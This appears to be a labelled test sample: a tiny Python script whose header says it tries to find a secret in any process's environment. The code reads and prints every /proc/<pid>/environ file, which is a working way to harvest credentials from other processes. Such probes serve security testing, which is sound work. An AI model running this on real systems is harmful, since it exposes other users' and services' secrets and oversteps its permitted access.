# tries: to find a secret in the environment of any process
# ends: completed
# open: none/user
import glob

for file in glob.glob("/proc/[0-9]*/environ"):
    try:
        print(open(file).read())
    except OSError:
        pass
